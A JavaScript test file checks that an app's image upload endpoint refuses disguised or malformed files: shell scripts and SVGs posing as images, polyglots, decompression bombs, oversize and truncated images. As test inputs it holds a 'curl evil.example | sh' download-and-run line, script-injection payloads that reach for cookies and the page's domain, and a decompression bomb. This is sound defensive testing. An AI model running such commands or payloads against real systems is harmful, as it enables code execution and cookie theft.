// Files that are not what they say: each upload is refused with a clear 4xx that names what
// to fix, nothing is stored (no file under DATA/uploads, no row), and the server stays well.
import { test, before, after } from '../support/test.mjs';
import assert from 'node:assert/strict';
import { readdir } from 'node:fs/promises';
import { execFile } from 'node:child_process';
import { promisify } from 'node:util';
import { join } from 'node:path';
import { startServer, freshDataDir, peerdesk, Client } from '../support/server.mjs';
import { png, pngBomb, gif, jpeg, withExif, webp, upload } from '../support/images.mjs';

let server, ana;

before(async () => {
  const dir = await freshDataDir();
  // Small limits, so that "too large" and "too many pixels" are quick to reach.
  await peerdesk(['settings', 'set', 'uploads.max_kib', '256', '--data', dir]);
  await peerdesk(['settings', 'set', 'uploads.max_megapixels', '1', '--data', dir]);
  server = await startServer({ dataDir: dir });
  ana = new Client(server.url);
  await ana.signUp('ana');
});
after(async () => {
  await server?.stop();
  assert.deepEqual(server.errors.filter((l) => !/^warning/.test(l)), []);
});

async function storedNothing() {
  const files = await readdir(join(server.dir, 'uploads')).catch(() => []);
  assert.deepEqual(files, [], 'no file under DATA/uploads');
  const { stdout } = await promisify(execFile)('sqlite3', [join(server.dir, 'peerdesk.db'), 'SELECT count(*) FROM uploads']);
  assert.equal(stdout.trim(), '0', 'no upload row');
}

async function refused(bytes, { filename, type, status, code, message }) {
  const r = await upload(ana, bytes, { filename, type });
  assert.equal(r.status, status, `${filename}: ${r.text}`);
  if (code instanceof RegExp) assert.match(r.body.error.code, code, `${filename}: ${r.text}`);
  else assert.equal(r.body.error.code, code, `${filename}: ${r.text}`);
  assert.equal(r.body.error.field, 'file');
  assert.match(r.body.error.message, message);
  await storedNothing();
}

const good = png(40, 30);

test('a script named .png is not an image', async () => {
  await refused(Buffer.from('#!/bin/sh\ncurl evil.example | sh\n'), { filename: 'cat.png', type: 'image/png', status: 422, code: 'not_an_image', message: /PNG, JPEG, GIF or WebP/ });
  await refused(Buffer.from('<script>alert(document.cookie)</script>'), { filename: 'x.gif', type: 'image/gif', status: 422, code: 'not_an_image', message: /whatever its name/ });
});

test('an SVG is refused, whatever it calls itself', async () => {
  const svg = '<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(2)</script></svg>';
  await refused(Buffer.from(svg), { filename: 'logo.svg', type: 'image/svg+xml', status: 422, code: 'not_an_image', message: /SVG drawings are not accepted/ });
  await refused(Buffer.from(svg), { filename: 'logo.png', type: 'image/png', status: 422, code: 'not_an_image', message: /SVG/ });
});

test('polyglots: an image with a page, an archive or a script after its end', async () => {
  const html = Buffer.from('<html><body><script>alert(document.domain)</script></body></html>');
  await refused(Buffer.concat([good, html]), { filename: 'poly.png', type: 'image/png', status: 422, code: 'broken_image', message: /other data after its end/ });
  const zip = Buffer.concat([Buffer.from('PK\x03\x04', 'latin1'), Buffer.alloc(60, 1)]);
  await refused(Buffer.concat([await jpeg(32, 32), zip]), { filename: 'poly.jpg', type: 'image/jpeg', status: 422, code: 'broken_image', message: /other data after its end/ });
  await refused(Buffer.concat([gif(4, 4, 1), Buffer.from('=alert(1)//')]), { filename: 'poly.gif', type: 'image/gif', status: 422, code: 'broken_image', message: /other data after its end/ });
  // The GIF header read as JavaScript (GIF89a=…): not a GIF at all once decoded.
  await refused(Buffer.from('GIF89a=1;alert(document.domain);//'), { filename: 'js.gif', type: 'image/gif', status: 422, code: /broken_image|too_many_pixels/, message: /does not decode|pixels/ });
});

test('a decompression bomb is refused for its dimensions, at once', async () => {
  const bomb = pngBomb(60000, 60000);
  assert.ok(bomb.length < 300 * 1024, `a small file (${bomb.length} bytes)`);
  const started = performance.now();
  await refused(bomb, { filename: 'bomb.png', type: 'image/png', status: 422, code: 'too_many_pixels', message: /60000 × 60000 pixels; the limit is 1 megapixels/ });
  assert.ok(performance.now() - started < 2000, 'no pixel buffer was made for it');
  // The same in a GIF's screen and a WebP's header.
  const g = gif(2, 2, 1);
  g.writeUInt16LE(65000, 6); g.writeUInt16LE(65000, 8);
  await refused(g, { filename: 'bomb.gif', type: 'image/gif', status: 422, code: 'too_many_pixels', message: /65000 × 65000/ });
});

test('too large, too many pixels, too many frames', async () => {
  const big = Buffer.concat([png(8, 8), Buffer.alloc(0)]);
  await refused(Buffer.concat([big.subarray(0, 8), Buffer.alloc(280 * 1024, 7)]), { filename: 'big.png', type: 'image/png', status: 413, code: 'file_too_large', message: /the limit is 256 KiB/ });
  await refused(png(1200, 1000, { flat: true }), { filename: 'wide.png', type: 'image/png', status: 422, code: 'too_many_pixels', message: /1200 × 1000 pixels/ });
  await refused(gif(16, 16, 400), { filename: 'long.gif', type: 'image/gif', status: 422, code: 'too_many_pixels', message: /more than 300 frames/ });
  // Over the body limit by far: refused from the request's length, before its body is read.
  const huge = await fetch(server.url + '/api/v1/uploads', { method: 'POST', headers: { 'content-type': 'multipart/form-data; boundary=x', 'content-length': String(50 << 20), cookie: ana.cookieHeader(), 'x-csrf-token': ana.csrf }, body: 'x' }).catch((e) => e);
  assert.ok(huge instanceof Error || huge.status === 413);
});

test('truncated and damaged images', async () => {
  const p = png(64, 64);
  await refused(p.subarray(0, p.length - 40), { filename: 'cut.png', type: 'image/png', status: 422, code: 'broken_image', message: /truncated or damaged/ });
  const j = await jpeg(64, 64);
  await refused(j.subarray(0, Math.floor(j.length * 0.6)), { filename: 'cut.jpg', type: 'image/jpeg', status: 422, code: 'broken_image', message: /truncated or damaged/ });
  const g = gif(8, 8, 2);
  await refused(g.subarray(0, g.length - 20), { filename: 'cut.gif', type: 'image/gif', status: 422, code: 'broken_image', message: /truncated or damaged/ });
  const w = await webp(32, 32);
  await refused(w.subarray(0, w.length - 30), { filename: 'cut.webp', type: 'image/webp', status: 422, code: 'broken_image', message: /shorter than its header|truncated/ });
  // A PNG whose pixel data was damaged (its checksum no longer matches).
  const d = Buffer.from(p);
  d[d.indexOf('IDAT') + 20] ^= 0xff;
  await refused(d, { filename: 'bad.png', type: 'image/png', status: 422, code: 'broken_image', message: /truncated or damaged/ });
  // An EXIF block whose offsets point outside it still uploads cleanly: the block is dropped.
  const odd = withExif(await jpeg(16, 16), 6);
  odd.writeUInt32BE(0xfffffff0, 4 + 6 + 4 + 2);
  const r = await upload(ana, odd, { filename: 'odd.jpg', type: 'image/jpeg' });
  assert.equal(r.status, 201, r.text);
});

test('a body that is not multipart, or has no file', async () => {
  const r = await ana.request('POST', '/api/v1/uploads', { body: good, headers: { 'content-type': 'image/png', 'x-csrf-token': ana.csrf } });
  assert.equal(r.status, 415);
  assert.match(r.body.error.message, /multipart\/form-data/);
  const form = new FormData();
  form.append('other', 'x');
  const none = await ana.request('POST', '/api/v1/uploads', { body: form, headers: { 'x-csrf-token': ana.csrf } });
  assert.equal(none.status, 422);
  assert.equal(none.body.error.code, 'missing_file');
  const broken = await ana.request('POST', '/api/v1/uploads', {
    body: '--zz\r\nContent-Disposition: form-data; name="file"; filename="a.png"\r\n\r\nno end', headers: { 'content-type': 'multipart/form-data; boundary=zz', 'x-csrf-token': ana.csrf },
  });
  assert.equal(broken.status, 400);
});
